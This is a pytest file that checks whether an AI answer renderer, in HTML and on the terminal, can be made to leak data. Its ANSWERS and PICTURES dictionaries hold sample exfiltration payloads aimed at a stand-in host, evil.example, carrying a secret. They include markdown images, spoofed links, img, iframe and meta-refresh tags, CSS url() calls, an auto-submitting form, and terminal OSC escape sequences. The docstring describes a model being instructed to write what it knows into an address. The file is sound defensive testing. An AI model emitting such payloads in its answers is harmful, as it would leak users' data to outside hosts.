"""What was read cannot be sent away by what is shown: pictures, links and citations of an answer that obeyed.

A model that was told to may write what it knows into an address. No address is fetched by showing it, in a terminal or
a page, and each link says where it leads. In a real browser this is tried in ``tests/browser``.
"""

from __future__ import annotations

import io
import re

import pytest
from rich.console import Console

from quaestor.cli.answer_drawing import DrawnAnswer
from quaestor.server.web.answer_html import LinkedCitation, render

LEAK = "https://evil.example/?know=s3cret"
ANSWERS = {
    "link": f"[the guide]({LEAK})",
    "link with a title": f'[the guide]({LEAK} "the guide")',
    "link that says another": f"[https://good.example/guide]({LEAK})",
    "link that says another's name": f"[good.example]({LEAK})",
    "link of a citation": f"[[1]]({LEAK})",
    "link of a user's name": "[the guide](https://good.example@evil.example/?know=s3cret)",
    "emphasised link": f"**[the *guide*]({LEAK})**",
    "code as a link": f"[`guide.md`]({LEAK})",
    "link in a table": f"| a |\n|--|\n| [the guide]({LEAK}) |",
    "plain address": f"<{LEAK}>",
    "mail": "[write](mailto:evil.example?body=s3cret)",
}
PICTURES = {
    "picture": f"![x]({LEAK})",
    "picture in a link": f"[![x]({LEAK})](https://good.example/)",
    "picture by reference": f"![x][y]\n\n[y]: {LEAK}",
    "element": f'<img src="{LEAK}"><video poster="{LEAK}"></video><link rel=prefetch href="{LEAK}">',
    "style": f'<style>@import "{LEAK}"</style><p style="background:url({LEAK})">x</p>',
    "frame": f'<iframe src="{LEAK}"></iframe><meta http-equiv=refresh content="0;url={LEAK}"><base href="{LEAK}">',
    "form": f'<form action="{LEAK}"><input autofocus onfocus=submit()></form><a ping="{LEAK}" href="/">x</a>',
}
_SHOWING = "a|blockquote|br|code|del|em|h[3-6]|hr|li|ol|p|pre|s|span|strong|table|tbody|td|th|thead|tr|ul"
_PLAIN = re.compile(
    rf'</?(?:{_SHOWING})(?: (?:class|href|target|rel|title|scope|tabindex|data-cite|data-place|aria-label)="[^"]*")*>'
)
CITED = (LinkedCitation(1, "guide.md:1-2", "words", "verified", "/passage?path=guide.md"),)


@pytest.mark.parametrize("way", [*ANSWERS, *PICTURES])
def test_no_page_fetches_what_an_answer_names(way: str) -> None:
    shown = str(render({**ANSWERS, **PICTURES}[way], CITED))
    assert all(_PLAIN.fullmatch(tag) for tag in re.findall("<[^>]*>", shown)), shown
    for attributes in re.findall(r"<a ([^>]*)>", shown):
        if 'href="/passage' not in attributes:
            assert 'rel="noopener noreferrer nofollow"' in attributes


@pytest.mark.parametrize("way", ANSWERS)
def test_a_page_says_where_a_link_leads(way: str) -> None:
    shown = str(render(ANSWERS[way], CITED))
    assert "evil.example" in re.sub(r"<[^>]*>", "", shown), shown


def test_a_link_that_says_it_itself_says_it_once() -> None:
    for text in ("<https://good.example/guide>", "[https://good.example](https://good.example/guide)"):
        assert re.sub(r"<[^>]*>", "", str(render(text))).count("good.example") == 1


def test_a_citation_leads_to_its_passage_and_says_no_host() -> None:
    shown = str(render(f"It rests [1]. [1]({LEAK})", CITED))
    assert 'href="/passage?path=guide.md"' in shown
    assert "evil.example" not in shown


def on_terminal(answer: str) -> str:
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=200, height=60, highlight=False, markup=False, emoji=False)
    with DrawnAnswer(console) as drawn:
        drawn.wait_for("searching")
        for start in range(0, len(answer), 7):
            drawn.write(answer[start : start + 7])
    return out.getvalue()


@pytest.mark.parametrize("way", [*ANSWERS, *PICTURES])
def test_a_terminal_shows_addresses_and_hides_none(way: str) -> None:
    answer = {**ANSWERS, **PICTURES}[way]
    shown = on_terminal(f"{answer}\n\n\x1b]8;;{LEAK}\x1b\\click\x1b]8;;\x1b\\ \x1b]52;c;c2VjcmV0\x07 \x1bP1$q\x1b\\\n")
    # Links of the terminal's own, its clipboard and its answers to questions: all begin with one of these.
    assert not re.search(r"\x1b[\]P^_X]", shown)
    assert not set(shown) & set("\x07\x90\x9b\x9d\x9e\x9f\u202e")
    if way in ANSWERS:
        assert "evil.example" in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", shown)
